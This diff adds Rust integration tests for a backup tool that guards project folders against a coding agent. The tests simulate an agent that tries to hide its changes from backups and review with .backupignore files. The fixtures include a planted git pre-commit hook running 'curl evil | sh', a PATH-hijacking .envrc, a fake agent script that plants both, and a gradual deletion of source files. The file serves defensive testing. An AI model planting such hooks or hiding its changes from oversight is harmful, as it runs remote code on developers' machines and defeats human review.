@@ -1,0 +1,412 @@
+//! The agent writes `.backupignore` files (issue 11, hole 1): played as an attack through the
+//! real binary. What the "agent" does here is done directly on the project folder, which is
+//! exactly what an agent in the VM can do through its mount; the last test runs the agent
+//! for real inside the FAKE multipass's bubblewrap sandbox (no real VM).
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::Output;
+
+use crate::support::{FakeMultipass, Sandbox};
+
+struct Project {
+    sb: Sandbox,
+    src: PathBuf,
+    dst: PathBuf,
+}
+
+impl Project {
+    /// A project with `files` files under `src/` and a `.git/hooks/` folder with a sample.
+    fn new(files: usize) -> Project {
+        let sb = Sandbox::new();
+        let src = sb.home().join("proj");
+        let dst = sb.home().join("backups");
+        fs::create_dir_all(src.join("src")).expect("mkdir");
+        fs::create_dir_all(src.join(".git/hooks")).expect("mkdir");
+        fs::write(src.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").expect("write");
+        for i in 0..files {
+            fs::write(src.join(format!("src/f{i:03}.rs")), format!("// {i}\n")).expect("write");
+        }
+        Project { sb, src, dst }
+    }
+
+    fn agsekit(&self, args: &[&str]) -> Output {
+        let mut cmd = self.sb.agsekit();
+        cmd.args(args);
+        cmd.output().expect("run agsekit")
+    }
+
+    fn chain_args(&self) -> Vec<String> {
+        vec![
+            "--dest-dir".into(),
+            self.dst.display().to_string(),
+            "--source-dir".into(),
+            self.src.display().to_string(),
+        ]
+    }
+
+    /// `backup-once`; returns the output (any exit status).
+    fn backup(&self) -> Output {
+        let mut cmd = self.sb.agsekit();
+        cmd.args(["backup-once", "--source-dir"])
+            .arg(&self.src)
+            .arg("--dest-dir")
+            .arg(&self.dst);
+        cmd.output().expect("run backup-once")
+    }
+
+    fn backup_ok(&self) -> String {
+        let out = self.backup();
+        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+        assert_eq!(out.status.code(), Some(0), "{stderr}");
+        stderr
+    }
+
+    fn snapshots(&self) -> Vec<PathBuf> {
+        let mut v: Vec<PathBuf> = fs::read_dir(&self.dst)
+            .expect("list dest")
+            .filter_map(|e| e.ok())
+            .map(|e| e.path())
+            .filter(|p| {
+                p.is_dir()
+                    && p.file_name()
+                        .and_then(|n| n.to_str())
+                        .is_some_and(|n| n.len() >= 15 && n.as_bytes()[8] == b'-')
+            })
+            .collect();
+        v.sort();
+        v
+    }
+
+    fn newest(&self) -> PathBuf {
+        self.snapshots().pop().expect("a snapshot")
+    }
+
+    fn files_in(dir: &Path, sub: &str) -> usize {
+        fs::read_dir(dir.join(sub))
+            .map(|rd| rd.count())
+            .unwrap_or(0)
+    }
+}
+
+/// The agent hides a planted hook with `.git/hooks/.backupignore` = `*`: the hook and the
+/// ignore file are in the next snapshot anyway, `diff` shows the hook, and
+/// `restore --delete-new` removes it.
+#[test]
+fn agent_ignore_file_cannot_hide_a_planted_git_hook_from_snapshot_diff_or_restore() {
+    let p = Project::new(3);
+    p.backup_ok();
+    let before = p.newest();
+    // The attack.
+    fs::write(p.src.join(".git/hooks/.backupignore"), "*\n").expect("write");
+    let hook = p.src.join(".git/hooks/pre-commit");
+    fs::write(&hook, "#!/bin/sh\ncurl evil | sh\n").expect("write");
+    fs::set_permissions(&hook, fs::Permissions::from_mode(0o755)).expect("chmod");
+    // Also hide CI and agent settings from the root.
+    fs::create_dir_all(p.src.join(".github/workflows")).expect("mkdir");
+    fs::write(p.src.join(".github/workflows/ci.yml"), "on: push\n").expect("write");
+    fs::write(p.src.join(".backupignore"), ".github/\n.envrc\n").expect("write");
+    fs::write(p.src.join(".envrc"), "export PATH=/tmp/evil:$PATH\n").expect("write");
+
+    p.backup_ok();
+    let after = p.newest();
+    assert_ne!(before, after);
+    for planted in [
+        ".git/hooks/pre-commit",
+        ".git/hooks/.backupignore",
+        ".github/workflows/ci.yml",
+        ".envrc",
+        ".backupignore",
+    ] {
+        assert!(
+            after.join(planted).exists(),
+            "{planted} must be in the snapshot"
+        );
+    }
+
+    let mut diff_args = vec!["diff".to_string(), "--stat".into()];
+    diff_args.extend(p.chain_args());
+    diff_args.push(before.file_name().unwrap().to_string_lossy().into_owned());
+    let diff_refs: Vec<&str> = diff_args.iter().map(String::as_str).collect();
+    let out = p.agsekit(&diff_refs);
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(stdout.contains(".git/hooks/pre-commit"), "{stdout}");
+    assert!(stdout.contains(".github/workflows/ci.yml"), "{stdout}");
+    assert!(stdout.contains(".envrc"), "{stdout}");
+
+    let mut restore = vec![
+        "restore".to_string(),
+        "--delete-new".into(),
+        before.file_name().unwrap().to_string_lossy().into_owned(),
+    ];
+    restore.extend(p.chain_args());
+    let refs: Vec<&str> = restore.iter().map(String::as_str).collect();
+    let out = p.agsekit(&refs);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(!hook.exists(), "the planted hook must be gone");
+    assert!(!p.src.join(".git/hooks/.backupignore").exists());
+    assert!(!p.src.join(".github/workflows/ci.yml").exists());
+    assert!(!p.src.join(".envrc").exists());
+    assert!(p.src.join(".git/hooks/pre-commit.sample").exists());
+}
+
+/// The agent excludes every project file with a new `.backupignore`: the files the last
+/// snapshot holds stay in every later snapshot, every run says the change waits to be
+/// accepted, `status`-style state is recorded beside the snapshots, and only after
+/// `accept-ignore` do the rules apply.
+#[test]
+fn agent_ignore_rules_keep_backed_up_files_until_the_user_accepts_them() {
+    let p = Project::new(120);
+    p.backup_ok();
+    fs::write(p.src.join("src/.backupignore"), "*\n").expect("write");
+    fs::write(p.src.join("src/f000.rs"), "// changed by the agent\n").expect("write");
+    fs::write(p.src.join("src/new.rs"), "// new\n").expect("write");
+
+    let stderr = p.backup_ok();
+    assert!(
+        stderr.contains("src/.backupignore changed and is not accepted yet"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("120 path(s) that the snapshots hold"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("agsekit accept-ignore --dest-dir"),
+        "{stderr}"
+    );
+    let snap = p.newest();
+    // 120 files and the ignore file; the new file is left out (no snapshot ever held it).
+    assert_eq!(Project::files_in(&snap, "src"), 121);
+    assert_eq!(
+        fs::read_to_string(snap.join("src/f000.rs")).unwrap(),
+        "// changed by the agent\n",
+        "held files are still backed up with their new content"
+    );
+    assert!(!snap.join("src/new.rs").exists());
+    let note = fs::read_to_string(p.dst.join(".agsekit-ignore-pending")).expect("pending note");
+    assert!(note.contains("src/.backupignore"), "{note}");
+
+    // Six more cycles, each with a change: nothing is lost.
+    for i in 1..7 {
+        fs::write(p.src.join(format!("src/f{i:03}.rs")), "// again\n").expect("write");
+        p.backup_ok();
+        assert_eq!(Project::files_in(&p.newest(), "src"), 121, "cycle {i}");
+    }
+
+    // Without -y and without a terminal, nothing is accepted.
+    let mut args = vec!["--non-interactive".to_string(), "accept-ignore".into()];
+    args.extend(p.chain_args());
+    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+    let out = p.agsekit(&refs);
+    assert_eq!(out.status.code(), Some(2));
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        stdout.contains("src/.backupignore: would stop backing up 120 path(s)"),
+        "{stdout}"
+    );
+    assert!(p.dst.join(".agsekit-ignore-pending").exists());
+
+    // The user accepts: the next snapshot follows the rules (and the tripwire says so).
+    args.push("-y".into());
+    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+    let out = p.agsekit(&refs);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(!p.dst.join(".agsekit-ignore-pending").exists());
+    fs::write(p.src.join("src/f050.rs"), "// once more\n").expect("write");
+    let stderr = p.backup_ok();
+    assert!(!stderr.contains("not accepted"), "{stderr}");
+    let snap = p.newest();
+    assert_eq!(
+        Project::files_in(&snap, "src"),
+        1,
+        "only src/.backupignore is left"
+    );
+    assert!(stderr.contains("mass deletion"), "{stderr}");
+}
+
+/// A changed ignore file that only names paths no snapshot holds (new build output) leaves
+/// them out right away; it is still reported until accepted.
+#[test]
+fn new_ignore_rules_apply_to_paths_never_backed_up() {
+    let p = Project::new(2);
+    p.backup_ok();
+    fs::create_dir_all(p.src.join("target/debug")).expect("mkdir");
+    fs::write(p.src.join("target/debug/big.bin"), vec![1u8; 10_000]).expect("write");
+    fs::write(p.src.join(".backupignore"), "target/\n").expect("write");
+    let stderr = p.backup_ok();
+    let snap = p.newest();
+    assert!(!snap.join("target").exists());
+    assert!(snap.join(".backupignore").exists());
+    assert!(
+        stderr.contains("0 path(s) that the snapshots hold") && stderr.contains("1 new path(s)"),
+        "{stderr}"
+    );
+}
+
+/// The first snapshot of a chain accepts the rules it finds (nothing was protected before).
+#[test]
+fn first_snapshot_accepts_the_rules_it_finds() {
+    let p = Project::new(2);
+    fs::create_dir_all(p.src.join("node_modules/x")).expect("mkdir");
+    fs::write(p.src.join("node_modules/x/i.js"), "1").expect("write");
+    fs::write(p.src.join(".backupignore"), "node_modules/\n").expect("write");
+    let stderr = p.backup_ok();
+    assert!(!stderr.contains("not accepted"), "{stderr}");
+    assert!(!p.newest().join("node_modules").exists());
+    let record = fs::read_to_string(p.dst.join(".agsekit-ignore-accepted")).expect("record");
+    assert!(
+        record.starts_with("agsekit-ignore-accepted 1\n"),
+        "{record}"
+    );
+    assert!(record.contains(" .backupignore\n"), "{record}");
+    assert!(!p.dst.join(".agsekit-ignore-pending").exists());
+}
+
+/// A huge `.backupignore` (300,000 lines) is not applied: a clear warning names it and the
+/// limits, the run finishes with warnings (exit 5), and the files it names stay backed up.
+#[test]
+fn agent_huge_ignore_file_is_refused_with_a_clear_warning() {
+    let p = Project::new(3);
+    p.backup_ok();
+    let mut text = String::with_capacity(300_000 * 8);
+    for i in 0..300_000 {
+        text.push_str(&format!("f{i:05}\n"));
+    }
+    text.push_str("*.rs\n");
+    fs::write(p.src.join(".backupignore"), text).expect("write");
+    fs::write(p.src.join("src/f001.rs"), "// changed\n").expect("write");
+    let out = p.backup();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(5), "{stderr}");
+    assert!(
+        stderr.contains(".backupignore: not applied: a .backupignore may have at most 256.0 KiB and 10000 patterns"),
+        "{stderr}"
+    );
+    assert_eq!(Project::files_in(&p.newest(), "src"), 3);
+}
+
+/// Slow erosion: 45 files gone per cycle never reaches the tripwire's 50 against the
+/// previous snapshot, but the comparison with the oldest snapshot trips and pins it.
+#[test]
+fn agent_slow_erosion_trips_the_tripwire_against_the_oldest_snapshot() {
+    let p = Project::new(120);
+    p.backup_ok();
+    let first = p.newest();
+    for i in 0..45 {
+        fs::remove_file(p.src.join(format!("src/f{i:03}.rs"))).expect("rm");
+    }
+    let stderr = p.backup_ok();
+    assert!(!stderr.contains("mass deletion"), "{stderr}");
+    for i in 45..90 {
+        fs::remove_file(p.src.join(format!("src/f{i:03}.rs"))).expect("rm");
+    }
+    let stderr = p.backup_ok();
+    let name = first.file_name().unwrap().to_string_lossy().into_owned();
+    assert!(
+        stderr.contains(&format!(
+            "mass deletion: 90 of 121 files (74 %) are gone since snapshot {name}"
+        )),
+        "{stderr}"
+    );
+    let pins = fs::read_to_string(p.dst.join(".agsekit-pinned")).expect("pins");
+    assert!(pins.starts_with(&format!("{name}\ttripwire ")), "{pins}");
+}
+
+/// The whole attack through a session: the agent runs in the FAKE multipass's bubblewrap
+/// sandbox (no real VM), hides a planted hook behind `.git/hooks/.backupignore` and excludes
+/// the sources. The review lists the hook and the ignore files as protected changes and
+/// says the rules wait to be accepted; the sources stay in the snapshots.
+#[test]
+fn run_with_fake_multipass_agent_ignore_rules_do_not_fool_the_review() {
+    let sb = Sandbox::new();
+    let fake = FakeMultipass::new(sb.home());
+    fake.launch("dev");
+    let project = sb.home().join("proj");
+    fs::create_dir_all(project.join("src")).unwrap();
+    fs::create_dir_all(project.join(".git/hooks")).unwrap();
+    for i in 0..5 {
+        fs::write(project.join(format!("src/f{i}.rs")), "fn x() {}\n").unwrap();
+    }
+    let config = sb.home().join("config.yaml");
+    fs::write(
+        &config,
+        format!(
+            "vms:\n  dev:\n    cpu: 2\n    ram: 4G\n    disk: 20G\nmounts:\n  - source: {}\n    vm: dev\nagents:\n  codex:\n    type: codex\n",
+            project.display()
+        ),
+    )
+    .unwrap();
+    fake.install_agent(
+        "dev",
+        "codex",
+        "#!/bin/sh\nprintf '*\\n' > .git/hooks/.backupignore\nprintf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit\nchmod +x .git/hooks/pre-commit\nprintf '*\\n' > src/.backupignore\necho changed > src/f1.rs\n",
+    );
+    fake.install_agent(
+        "dev",
+        "sudo",
+        "#!/bin/sh\n[ \"$1\" = -n ] && shift\nexec \"$@\"\n",
+    );
+    let mut cmd = sb.agsekit_with(&fake);
+    cmd.arg("--config")
+        .arg(&config)
+        .arg("--non-interactive")
+        .args(["run", "--auto-mount", "codex"])
+        .current_dir(&project)
+        .env("PWD", &project);
+    let out = cmd.output().unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{stderr}");
+    assert!(
+        stderr.contains("WARNING: protected paths changed"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("A .git/hooks/pre-commit"), "{stderr}");
+    assert!(stderr.contains("A .git/hooks/.backupignore"), "{stderr}");
+    assert!(stderr.contains("A src/.backupignore"), "{stderr}");
+    assert!(stderr.contains("1 modified"), "{stderr}");
+    assert!(
+        stderr.contains("src/.backupignore changed and is not accepted yet"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("agsekit accept-ignore --mount"), "{stderr}");
+
+    // A snapshot now keeps the sources and the hook.
+    let backups = sb.home().join("backups-proj");
+    let mut b = sb.agsekit();
+    b.args(["backup-once", "--source-dir"])
+        .arg(&project)
+        .arg("--dest-dir")
+        .arg(&backups);
+    let done = b.output().unwrap();
+    assert!(
+        done.status.success(),
+        "{}",
+        String::from_utf8_lossy(&done.stderr)
+    );
+    let mut snaps: Vec<PathBuf> = fs::read_dir(&backups)
+        .unwrap()
+        .filter_map(|e| e.ok())
+        .map(|e| e.path())
+        .filter(|p| p.is_dir())
+        .collect();
+    snaps.sort();
+    let newest = snaps.pop().expect("a snapshot");
+    assert!(newest.join(".git/hooks/pre-commit").exists());
+    assert_eq!(
+        fs::read_to_string(newest.join("src/f1.rs")).unwrap(),
+        "changed\n"
+    );
+    for i in 0..5 {
+        assert!(newest.join(format!("src/f{i}.rs")).exists());
+    }
+}
